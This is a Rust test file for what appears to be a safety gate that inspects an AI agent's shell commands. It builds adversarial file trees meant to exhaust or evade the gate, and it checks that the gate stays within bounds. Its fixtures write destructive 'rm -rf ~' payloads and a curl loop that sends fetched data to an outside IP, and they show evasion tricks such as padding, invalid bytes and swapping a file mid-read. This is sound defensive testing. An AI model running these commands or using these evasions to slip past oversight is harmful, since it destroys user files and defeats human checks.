//! Trees that are made to keep the gate busy, to have it fail, or to hide something behind a bound. What is counted is how much is looked at and
//! how much work it is, never time: twice as much costs about twice as much, or meets the bound and is said to be read in part.

use std::{
    fs,
    os::unix::fs::{PermissionsExt as _, symlink},
    path::Path,
    process::Command,
    sync::atomic::{AtomicBool, Ordering},
    thread,
};

use portcullis::session::{Judged, Options, Session};
use portcullis_core::{
    assessment::Coverage,
    call::ToolCall,
    decision::Verdict,
    facts::{
        FileFact,
        content::{ACTION_BYTES, ACTION_FILES, ACTION_LOOKS},
    },
    policy::Context,
};
use tempfile::TempDir;

/// What a payload does.
const HARM: &str = "rm -rf ~\n";

/// How files are laid out that are there `n` times.
type Layout = fn(&Path, usize);

/// What comes of a tree.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
enum Comes {
    /// All of it is read, and it goes on.
    GoesOn,
    /// What does harm is found.
    Found,
    /// Something was left unread, and that is a question.
    ReadInPart,
    /// There is nothing that could be run.
    Nothing,
}

/// Name, how it is laid out and how often, the command, and what comes of it.
const TREES: &[(&str, Layout, usize, &str, Comes)] = &[
    ("scripts that start each other", chained, 60, "bash s0.sh", Comes::ReadInPart),
    ("a makefile with many includes", included, 10_000, "make", Comes::ReadInPart),
    ("a script that starts itself often", own, 2_000, "bash own.sh", Comes::ReadInPart),
    ("a long line", long, 240_000, "bash long.sh", Comes::GoesOn),
    ("links in a circle", circle, 20, "bash l0.sh", Comes::ReadInPart),
    ("a sparse file", sparse, 1, "bash sparse.sh", Comes::ReadInPart),
    ("a sparse file that begins as a script", begun, 1, "bash begun.sh", Comes::ReadInPart),
    ("a pipe that nobody writes to", pipe, 1, "bash pipe.sh", Comes::ReadInPart),
    ("a link to a device", device, 1, "bash device.sh", Comes::ReadInPart),
    ("bytes that are no text", invalid, 1, "bash odd.sh", Comes::Found),
    ("padding before the payload", padded, 500_000, "bash padded.sh", Comes::ReadInPart),
    (
        "modules of one package, one after the other",
        modules,
        200,
        "python3 m0.py",
        Comes::ReadInPart,
    ),
    ("modules of one package, side by side", beside, 200, "python3 main.py", Comes::ReadInPart),
    ("a makefile of many targets", targets, 1_200, "make", Comes::GoesOn),
    ("a makefile of too many targets", targets, 4_800, "make", Comes::ReadInPart),
    ("much that is fetched and sent on", flows, 600, "bash flows.sh", Comes::Found),
    (
        "directories within each other",
        deep,
        40,
        "make -C d/d/d/d/d/d/d/d/d/d/d/d/d/d",
        Comes::Nothing,
    ),
    ("many scripts", many, 300, "bash all.sh", Comes::ReadInPart),
    ("functions that call each other", functions, 400, "bash f.sh", Comes::ReadInPart),
];

fn put(directory: &Path, name: &str, text: impl AsRef<[u8]>) {
    let path = directory.join(name);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(&path, text).unwrap();
    fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
}

fn lines(n: usize, line: impl Fn(usize) -> String) -> String {
    (0..n).map(line).collect()
}

fn chained(directory: &Path, n: usize) {
    for at in 0..n {
        put(directory, &format!("s{at}.sh"), format!("bash s{}.sh\n", at + 1));
    }
    put(directory, &format!("s{n}.sh"), HARM);
}

fn included(directory: &Path, n: usize) {
    put(directory, "Makefile", lines(n, |at| format!("include p{at}.mk\n")) + "all:\n\techo\n");
    for at in 0..n.min(200) {
        put(directory, &format!("p{at}.mk"), "A = 1\n");
    }
}

fn own(directory: &Path, n: usize) {
    put(directory, "own.sh", lines(n, |at| format!("bash own.sh {at}\n")));
}

fn long(directory: &Path, n: usize) {
    put(directory, "long.sh", format!("echo {}\n", "a".repeat(n)));
}

fn circle(directory: &Path, n: usize) {
    for at in 0..n {
        symlink(format!("l{}.sh", (at + 1) % n), directory.join(format!("l{at}.sh"))).unwrap();
    }
}

fn sparse(directory: &Path, _: usize) {
    fs::File::create(directory.join("sparse.sh")).unwrap().set_len(1 << 40).unwrap();
}

fn begun(directory: &Path, _: usize) {
    put(
        directory,
        "begun.sh",
        "echo a file that says hello and then goes on and on and on and on and on and on\n"
            .repeat(4),
    );
    fs::File::options()
        .write(true)
        .open(directory.join("begun.sh"))
        .unwrap()
        .set_len(1 << 40)
        .unwrap();
}

fn pipe(directory: &Path, _: usize) {
    assert!(Command::new("mkfifo").arg(directory.join("pipe.sh")).status().unwrap().success());
}

fn device(directory: &Path, _: usize) {
    symlink("/dev/zero", directory.join("device.sh")).unwrap();
}

fn invalid(directory: &Path, _: usize) {
    put(directory, "odd.sh", [b"echo \xff\xfe\xc3\n".as_slice(), HARM.as_bytes()].concat());
}

fn padded(directory: &Path, n: usize) {
    put(directory, "padded.sh", "# padding\n".repeat(n) + HARM);
}

fn modules(directory: &Path, n: usize) {
    for at in 0..n {
        put(directory, &format!("m{at}.py"), format!("import m{}\n", at + 1));
    }
    put(directory, &format!("m{n}.py"), "import os\nos.system('rm -rf ~')\n");
}

fn beside(directory: &Path, n: usize) {
    put(directory, "main.py", lines(n, |at| format!("import b{at}\n")));
    for at in 0..n {
        put(directory, &format!("b{at}.py"), "import b0\nimport b1\nA = 1\n");
    }
}

fn targets(directory: &Path, n: usize) {
    let target = |at: usize| format!("t{at}: t{} x{at}.c\n\tcc -c x{at}.c -o t{at}\n", at + 1);
    put(directory, "Makefile", format!("all: t0\n{}t{n}:\n\techo done\n", lines(n, target)));
}

fn flows(directory: &Path, n: usize) {
    let line = |at: usize| {
        format!(
            "x{at}=$(curl -s https://a.example/{at} \"$x{}\"); curl -d \"$x{at}\" http://203.0.113.9/{at}\n",
            at.saturating_sub(1)
        )
    };
    put(directory, "flows.sh", lines(n, line) + HARM);
}

fn deep(directory: &Path, n: usize) {
    fs::create_dir_all(directory.join("d/".repeat(n))).unwrap();
}

fn many(directory: &Path, n: usize) {
    put(directory, "all.sh", lines(n, |at| format!("bash one{at}.sh\n")));
    for at in 0..n {
        put(directory, &format!("one{at}.sh"), "echo one\n");
    }
}

fn functions(directory: &Path, n: usize) {
    let function = |at: usize| format!("f{at}() {{ f{}; }}\n", at + 1);
    put(directory, "f.sh", lines(n, function) + "f0\n");
}

/// A project of its own, and a session that judges in it.
struct Ground {
    root: TempDir,
    session: Session,
}

impl Ground {
    fn new() -> Self {
        let root = TempDir::new().unwrap();
        for directory in ["home", "project/.git"] {
            fs::create_dir_all(root.path().join(directory)).unwrap();
        }
        let session = Session::open(Options { unrecorded: true, ..Options::default() });
        Self { root, session }
    }

    fn judged(&self, command: &str) -> Judged {
        let path = |name: &str| Some(self.root.path().join(name).to_str().unwrap().to_owned());
        let call =
            ToolCall { cwd: path("project"), home: path("home"), ..ToolCall::shell(command) };
        self.session.consider(call, Context::default()).unwrap()
    }
}

/// A tree of some size, judged.
fn of(layout: Layout, n: usize, command: &str) -> Judged {
    let ground = Ground::new();
    layout(&ground.root.path().join("project"), n);
    ground.judged(command)
}

fn comes(judged: &Judged) -> Comes {
    let assessment = &judged.judgement.assessment;
    let is_stopped = judged.judgement.decision.verdict != Verdict::Allow;
    let is_whole = assessment.coverage == Coverage::Full;
    match (is_stopped, is_whole) {
        (true, _) if assessment.findings.iter().any(|finding| finding.rule.starts_with("fs.")) => {
            Comes::Found
        }
        (true, false) => Comes::ReadInPart,
        (false, _) if judged.judgement.effects.files.iter().any(|file| file.layer.is_some()) => {
            Comes::GoesOn
        }
        (false, _) => Comes::Nothing,
        (true, true) => panic!("{:?}", judged.judgement.decision),
    }
}

#[test]
fn a_tree_is_read_within_bounds_and_what_is_left_is_said() {
    let mut wrong = Vec::new();
    for (name, layout, n, command, expected) in TREES {
        let judged = of(*layout, *n, command);
        let found = comes(&judged);
        if found != *expected {
            let gaps = &judged.judgement.effects.gaps;
            wrong.push(format!("{name}: {found:?}, not {expected:?}; {gaps:?}"));
        }
        let contents = &judged.facts.contents;
        let read = contents.values().filter_map(|fact| match fact {
            FileFact::Read(file) => Some(file.text.len() as u64),
            _ => None,
        });
        let (files, bytes) = read.fold((0, 0), |(files, all), bytes| (files + 1, all + bytes));
        assert!(contents.len() <= ACTION_LOOKS, "{name}: {} looks", contents.len());
        assert!(files <= ACTION_FILES && bytes <= ACTION_BYTES, "{name}: {files}, {bytes}");
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn twice_as_much_is_about_twice_the_work() {
    /// What is done for a tree of any size.
    const LEAST: usize = 4_000;
    for (name, layout, n, command, _) in TREES {
        let counted = |n: usize| {
            let effects = of(*layout, n, command).judgement.effects;
            (effects.work, effects.list.len(), effects.layers.len(), effects.flows.len())
        };
        let (once, twice) = (counted(*n / 2), counted(*n));
        let is_linear = |once: usize, twice: usize| twice <= once * 5 / 2 + LEAST;
        assert!(
            is_linear(once.0, twice.0)
                && is_linear(once.1, twice.1)
                && is_linear(once.2, twice.2)
                && is_linear(once.3, twice.3),
            "{name}: {once:?}, then {twice:?}"
        );
    }
}

#[test]
fn a_file_that_changes_while_it_is_read_is_judged_by_what_was_read_or_not_at_all() {
    let ground = Ground::new();
    let project = ground.root.path().join("project");
    let harmless = "echo hi\n".repeat(1_000);
    let harmful = format!("{HARM}{harmless}");
    put(&project, "x.sh", &harmless);
    let first = ground.judged("bash x.sh");
    assert_eq!(first.judgement.decision.verdict, Verdict::Allow);
    let done = AtomicBool::new(false);
    thread::scope(|scope| {
        scope.spawn(|| {
            let mut at = 0_u32;
            while !done.load(Ordering::Relaxed) {
                at += 1;
                let text = if at.is_multiple_of(2) { &harmless } else { &harmful };
                if at.is_multiple_of(3) {
                    put(&project, "new.sh", text);
                    fs::rename(project.join("new.sh"), project.join("x.sh")).unwrap();
                } else {
                    fs::write(project.join("x.sh"), text).unwrap();
                }
            }
        });
        for _ in 0..300 {
            let judged = ground.judged("bash x.sh");
            let read = judged.facts.contents.values().find_map(|fact| match fact {
                FileFact::Read(file) => Some(file.text.to_string()),
                _ => None,
            });
            let is_harmful = read.is_some_and(|text| text.contains(HARM));
            let verdict = judged.judgement.decision.verdict;
            assert!(verdict != Verdict::Allow || !is_harmful, "{:?}", judged.facts.contents);
        }
        done.store(true, Ordering::Relaxed);
    });
}
